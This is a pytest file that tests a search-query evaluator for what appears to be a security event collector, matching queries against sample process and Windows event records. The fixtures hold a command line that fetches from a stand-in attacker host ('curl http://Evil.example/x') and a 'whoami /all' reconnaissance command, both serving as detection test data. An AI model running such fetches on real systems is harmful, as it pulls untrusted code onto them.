import pytest
from tramgac_collector.search.evaluate import asked
from tramgac_collector.search.parsing import parse

START = {
    "host": "ab" * 16,
    "kind": "process_start",
    "@timestamp": "2026-01-31T08:00:00Z",
    "process.command_line": "curl http://Evil.example/x",
    "process.entity_id": "00000000000000ff",
    "process.pid": 7,
    "user.id": 0,
}
RECORD = {
    "kind": "event_log",
    "event.code": 4688,
    "winlog.event_data": {"CommandLine": "whoami /all", "LogonType": "3", "SourceIp": "10.1.2.3"},
    "winlog.values": ["one", "two"],
}


@pytest.mark.parametrize(
    ("text", "met"),
    [
        ("", True),
        ("evil", True),
        ("EVIL.ex*x", True),
        ("evil?example", True),
        ("whoami", False),
        ("process.pid:7 user.id:0", True),
        ("user.id:>0", False),
        ("not user.id:>0 process.pid:[7 TO 7]", True),
        ("tramgac.process.fileless:false", True),
        ("tramgac.file.created:false", False),
        ("process.entity_id:00000000000000FF", True),
        ("@timestamp:>=2026-01-31 kind:process_*", True),
        ("destination.port:0", False),
        ("process.exit_code:0", False),
        ("file.path:a or host:ab*", True),
    ],
)
def test_of_a_process(text, met):
    assert asked(parse(text).node)(START) is met


@pytest.mark.parametrize(
    ("text", "met"),
    [
        ("whoami", True),
        ("CommandLine:whoami*", True),
        ("EventID:4688 LogonType:>=3", True),
        ("LogonType:<3", False),
        ("SourceIp:10.0.0.0/8 -SourceIp:10.1.2.4", True),
        ("winlog.values:two", True),
        ("winlog.values:three", False),
        ("winlog.event_data.None:x", False),
    ],
)
def test_of_a_record_of_windows(text, met):
    assert asked(parse(text).node)(RECORD) is met
